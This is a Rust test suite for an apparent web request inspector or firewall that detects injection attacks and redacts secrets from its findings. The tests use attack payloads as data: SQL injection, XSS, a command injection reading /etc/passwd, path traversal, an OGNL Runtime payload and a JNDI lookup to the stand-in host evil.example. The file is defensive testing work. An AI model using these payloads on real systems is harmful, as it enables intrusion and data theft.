//! One line per boundary: what is found, by which rule, and what just is not.

use super::super::body::Kind;
use super::super::finding::{Exception, Finding, Part};
use super::super::inspector::Inspector;
use super::super::normal::{self, Coding};
use super::super::rule::Rule;

fn findings(query: &str) -> Vec<Finding> {
    let mut inspector = Inspector::default();
    inspector.inspect(&[]).pairs(Part::Query, query.as_bytes());
    inspector.findings().to_vec()
}

fn check(query: &str, rule: Rule) {
    let found = findings(query);
    assert!(
        found.iter().any(|finding| finding.rule == rule && finding.points == 5),
        "{query}: {found:?}"
    );
}

fn check_clean(query: &str) {
    assert_eq!(findings(query), [], "{query}");
}

#[test]
fn each_rule_finds_its_own() {
    check("q=1'+or+'1'='1", Rule::SqlInjection);
    check("q=<svg/onload=alert(1)>", Rule::CrossSiteScripting);
    check("q=../../etc/passwd", Rule::PathTraversal);
    check("q=/etc/passwd", Rule::SensitiveFile);
    check("q=a;cat+/etc/passwd", Rule::CommandInjection);
    check("q={{7*7}}", Rule::TemplateInjection);
    check("q=<?php+phpinfo();", Rule::CodeInjection);
    check("q=a%0d%0aSet-Cookie:+b=c", Rule::HeaderInjection);
    check("q=a%00b", Rule::BadEncoding);
    check("user[$ne]=1", Rule::CodeInjection);
}

#[test]
fn what_is_no_query_is_no_injection() {
    check_clean("q=O'Neil+or+Smith");
    check_clean("q=select+a+colour+from+the+union");
    check_clean("q='yes'+or+'no'");
    check_clean("q=the+boys'+and+girls'+room");
    check_clean("q=5'11\"");
    check_clean("q=union+select+committee");
}

#[test]
fn headers_are_judged_by_their_names() {
    let score = |name: &str, value: &str| {
        let mut inspector = Inspector::default();
        inspector.inspect(&[]).header(name.as_bytes(), value.as_bytes());
        inspector.score()
    };
    assert_eq!(score("User-Agent", "sqlmap/1.7"), 5);
    assert_eq!(score("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"), 0);
    assert_eq!(score("Authorization", "Basic Jyd+b3I="), 0);
    assert_eq!(score("Accept", "text/html;q=0.9, */*"), 0);
    assert_eq!(score("Accept-Language", "' or 1=1 -- "), 5);
    assert_eq!(score("Range", &format!("bytes=0-{}", ",1-".repeat(20))), 3);
    assert_eq!(score("X-Original-URL", "/admin"), 2);
    assert_eq!(score("Content-Type", "text/html; charset=utf-7"), 5);
    assert_eq!(score("Content-Type", "text/html; charset=\"IBM037\""), 5);
    assert_eq!(score("Content-Type", "%{(#a='b').(#c=@java.lang.Runtime@getRuntime())}"), 5);
    assert_eq!(score("Content-Type", "multipart/related; start=\"<root@example.org>\""), 0);
    assert_eq!(score("If-None-Match", "${jndi:ldap://evil.example/a}"), 10);
    assert_eq!(score("Authorization", "Bearer <script>alert(1)</script>"), 5);
}

#[test]
fn an_objects_origin_is_a_name_like_no_other() {
    check("__proto__=1", Rule::CodeInjection);
    check("a__proto__b[c]=1", Rule::CodeInjection);
    check_clean("proto=1&_proto_=2");
}

#[test]
fn exceptions_cover_what_they_name() {
    let score = |exception: Exception| {
        let mut inspector = Inspector::default();
        inspector.inspect(&[exception]).pairs(Part::Query, b"q=1'+or+'1'='1&r=1'+or+'1'='1");
        inspector.score()
    };
    let name = |name: &str| Some(name.as_bytes().into());
    assert_eq!(score(Exception::default()), 0);
    assert_eq!(score(Exception { name: name("Q"), part: Some(Part::Query), rule: None }), 5);
    assert_eq!(score(Exception { part: Some(Part::Form), ..Exception::default() }), 10);
    assert_eq!(score(Exception { rule: Some(Rule::SqlInjection), ..Exception::default() }), 0);
    assert_eq!(score(Exception { rule: Some(Rule::Scanner), ..Exception::default() }), 10);
}

#[test]
fn what_may_be_a_secret_is_not_repeated() {
    let found = findings("password=1'+or+'1'='1");
    assert_eq!(found[0].excerpt.as_bytes(), b"");
    assert!(!findings("q=1'+or+'1'='1")[0].excerpt.as_bytes().is_empty());
}

#[test]
fn normal_forms() {
    let check = |value: &[u8], expected: &str| {
        let (mut out, mut spare) = (Vec::new(), Vec::new());
        normal::write(value, Coding::Form, &mut out, &mut spare);
        assert_eq!(out.escape_ascii().to_string(), expected, "{}", value.escape_ascii());
    };
    check(b"A+b", "a b");
    check(b"%41%2525", "a%");
    check(b"%u0027%U0022", "\\'\\\"");
    check(b"&lt;&#60;&#x3C&#0000060;", "<<<<");
    check(b"\\u003c\\x3c\\u{3c}", "<<<");
    check(b"\xc0\xaf\xe0\x80\xaf\xef\xbc\x8f", "///");
    check(b"a\0b%00", "ab");
    check(b"a \t\r\n b", "a\\nb");
    check(b"100% of %zz & co", "100% of %zz & co");
    check("äÖ".as_bytes(), "\\xc3\\xa4\\xc3\\x96");
    check(b"%2%35%32%37", "\\'");
}

fn score_of_body(content_type: &str, body: &str) -> u32 {
    let mut inspector = Inspector::default();
    inspector.inspect(&[]).body(Kind::of(Some(content_type.as_bytes())), body.as_bytes());
    inspector.score()
}

const MULTIPART: &str = "multipart/form-data; boundary=x";

#[test]
fn a_content_type_is_no_way_around() {
    let form = "q=1'+or+'1'='1";
    for content_type in [
        "application/x-www-form-urlencoded",
        "application/x-www-form-urlencoded, image/png",
        "application/x-www-form-urlencoded image/png",
        "image/png, application/x-www-form-urlencoded",
        "image/png application/x-www-form-urlencoded",
        "application/x-unknown",
        "unknown",
        "",
    ] {
        assert!(score_of_body(content_type, form) >= 5, "{content_type}");
        assert_eq!(score_of_body(content_type, "q=O'Neil&r=1"), 0, "{content_type}");
    }
    for content_type in ["application/x-unknown", "text/plain"] {
        assert!(score_of_body(content_type, "<script>alert(1)</script>") >= 5, "{content_type}");
    }
    for content_type in ["image/png", "application/octet-stream", "application/grpc+proto"] {
        assert_eq!(score_of_body(content_type, form), 0, "{content_type}");
    }
}

#[test]
fn parts_are_what_every_reader_takes_for_them() {
    const FILE: &str = "Content-Disposition: form-data; name=a; filename=b";
    const ATTACK: &str = "<script>alert(1)</script>";
    let field = "Content-Disposition: form-data; name=\"a\"";
    let is_found = |body: &str| {
        assert!(score_of_body(MULTIPART, body) >= 5, "{body}");
    };
    is_found(&format!("--x\r\n{field}\r\n\r\n{ATTACK}\r\n--x--\r\n"));
    // No delimiter begins within a line.
    is_found(&format!("--x\r\n{field}\r\n\r\na--x\r\n{FILE}\r\n\r\n{ATTACK}\r\n--x--\r\n"));
    // Nor is a longer one, or one behind half a line end, one for everybody.
    is_found(&format!("--x\r\n{field}\r\n\r\na\r\n--xy\r\n{FILE}\r\n\r\n{ATTACK}\r\n--x--\r\n"));
    is_found(&format!("--x\r\n{field}\r\n\r\na\n--x\r\n{FILE}\r\n\r\n{ATTACK}\r\n--x--\r\n"));
    is_found(&format!("--x\r\n{ATTACK}\r\n--x--\r\n"));
    is_found(&format!("--x\r\n\r\n{ATTACK}\r\n\r\n{FILE}\r\n\r\n\r\n--x--\r\n"));
    is_found(&format!("{ATTACK}\r\n--x\r\n{field}\r\n\r\na\r\n--x--\r\n"));
    is_found(&format!("--x\r\n{field}\r\n\r\na\r\n--x--\r\n{ATTACK}"));
    // A file is one by its own line and its plain name.
    for lines in [
        format!("X: y; filename=b\r\n{field}"),
        format!("{field}; filename*=utf-8''b"),
        format!("{field} filename=b"),
        format!("{field}; filename=\"\""),
        format!("{FILE}\r\n{field}"),
    ] {
        is_found(&format!("--x\r\n{lines}\r\n\r\n{ATTACK}\r\n--x--\r\n"));
    }
    let file = format!("--x\r\n{FILE}\r\nContent-Type: text/html\r\n\r\n{ATTACK}\r\n--x--\r\n");
    assert_eq!(score_of_body(MULTIPART, &file), 0);
    assert_eq!(
        score_of_body(
            MULTIPART,
            &file.replace(": form", ":form").replace("name=a;", "name=\"a\" ;")
        ),
        0
    );
    let comma = "multipart/form-data; boundary=x, boundary2=y";
    assert!(score_of_body(comma, &format!("--x\r\n{field}\r\n\r\n{ATTACK}\r\n--x--\r\n")) >= 5);
}

#[test]
fn padding_hides_no_injection() {
    for padding in ["-1", "+1", "||'a'", ",1", "-f(a)", "+a", " or a"] {
        for end in [" or 1=1-- ", " union select a,b from c-- "] {
            for start in ["1", "x'"] {
                let value = format!("{start}{}{end}", padding.repeat(400));
                let value = value.replace('+', "%2b").replace(' ', "+");
                check(&format!("q={value}"), Rule::SqlInjection);
            }
        }
    }
}

fn with_exception(name: &str, part: Part, kind: Kind<'_>, body: &str) -> u32 {
    let name = Some(name.as_bytes().into());
    let exception = Exception { name, part: Some(part), rule: None };
    let mut inspector = Inspector::default();
    inspector.inspect(&[exception]).body(kind, body.as_bytes());
    inspector.score()
}

#[test]
fn names_end_with_what_they_name() {
    let json =
        |body: &str| with_exception("a", Part::Json, Kind::Json, &body.replace('!', "<script>"));
    for body in [r#"{"a":"!"}"#, r#"{"a":["x","!"]}"#, r#"{"b":1,"a":[["!"],"!"]}"#] {
        assert_eq!(json(body), 0, "{body}");
    }
    for body in [
        r#"[{"a":"x"},"!"]"#,
        r#"{"a":"x","!"}"#,
        r#"{"a":1,"!"}"#,
        r#"{"a":["x"],"!"}"#,
        r#"{"b":{"a":1},"!"}"#,
        r#"{"a":{"b":"!"}}"#,
    ] {
        assert!(json(body) >= 5, "{body}");
    }
    let xml = |body: &str| {
        let body = body.replace('!', "&lt;script>alert(1)");
        with_exception("a", Part::Xml, Kind::Xml, &body)
    };
    assert_eq!(xml("<r><a>!</a></r>"), 0);
    assert!(xml("<r><a>x</a>!</r>") >= 5);
    assert!(xml("<r><a/>!</r>") >= 5);
}

#[test]
fn texts_with_secrets_are_not_repeated() {
    let excerpt = |name: &str, value: &str| {
        let mut inspector = Inspector::default();
        inspector.inspect(&[]).header(name.as_bytes(), value.as_bytes());
        inspector.findings()[0].excerpt.as_bytes().to_vec()
    };
    assert_eq!(excerpt("Cookie", "a=<script>"), b"");
    assert_eq!(excerpt("Referer", "http://a/?jwt=1&q=<script>"), b"");
    assert_ne!(excerpt("Referer", "http://a/?q=<script>"), b"");
    for name in ["sid", "PHPSESSID", "csrf", "X-XSRF", "otp", "jwt", "card", "cvv"] {
        assert_eq!(findings(&format!("{name}=<script>"))[0].excerpt.as_bytes(), b"", "{name}");
    }
    let mut inspector = Inspector::default();
    inspector.inspect(&[]).body(Kind::Text, b"pwd: x\n<script>");
    assert_eq!(inspector.findings()[0].excerpt.as_bytes(), b"");
}

/// By its content, where its type says nothing: text is judged in whatever alphabet it is written.
#[test]
fn data_of_a_type_that_nobody_knows_is_no_text() {
    let score = |body: &[u8]| {
        let mut inspector = Inspector::default();
        inspector.inspect(&[]).body(Kind::of(Some(b"application/x-own")), body);
        inspector.score()
    };
    let attack = b"<script>alert(1)</script>";
    let data: Vec<u8> = (0..=255).cycle().take(4096).collect();
    assert_eq!(score(&[&data[..], attack].concat()), 0);
    assert!(score(attack) >= 5);
    assert!(score(&[&b"\xcf\xf0\xe8\xe2\xe5\xf2 ".repeat(100)[..], attack].concat()) >= 5);
    // One zero byte makes no data of a text.
    assert!(score(&[b"a text, and\0", &attack[..]].concat()) >= 5);
}

/// Whatever the score, more values than are looked at are no clean request.
#[test]
fn a_request_that_is_filled_up_is_told_apart() {
    let filled = |exceptions: &[Exception]| {
        let mut inspector = Inspector::default();
        let query = "a='&".repeat(2049);
        inspector.inspect(exceptions).pairs(Part::Query, query.as_bytes());
        inspector.is_overfull()
    };
    assert!(filled(&[]));
    assert!(!filled(&[Exception { rule: Some(Rule::OddProtocol), ..Exception::default() }]));
}
